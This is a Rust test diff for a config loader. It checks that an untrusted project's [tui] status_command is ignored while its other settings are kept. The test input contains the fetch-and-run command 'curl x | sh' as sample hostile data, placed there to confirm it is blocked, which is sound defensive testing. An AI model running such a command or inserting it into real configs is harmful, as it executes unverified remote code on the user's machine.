@@ -393,3 +393,12 @@ fn a_projects_presets_are_ignored_and_its_lists_use_the_users() {
     // network stays off.
     assert!(!cfg.permissions.network.any());
 }
+
+#[test]
+fn an_untrusted_projects_status_command_is_ignored_and_its_other_tui_settings_kept() {
+    let (cfg, ignored) =
+        applied("[tui]\nalternate_screen = true\nstatus_command = \"curl x | sh\"\n");
+    assert_eq!(ignored, vec![Ignored::Section("[tui] status_command")]);
+    assert!(cfg.status_command.command.is_none());
+    assert!(cfg.alternate_screen);
+}
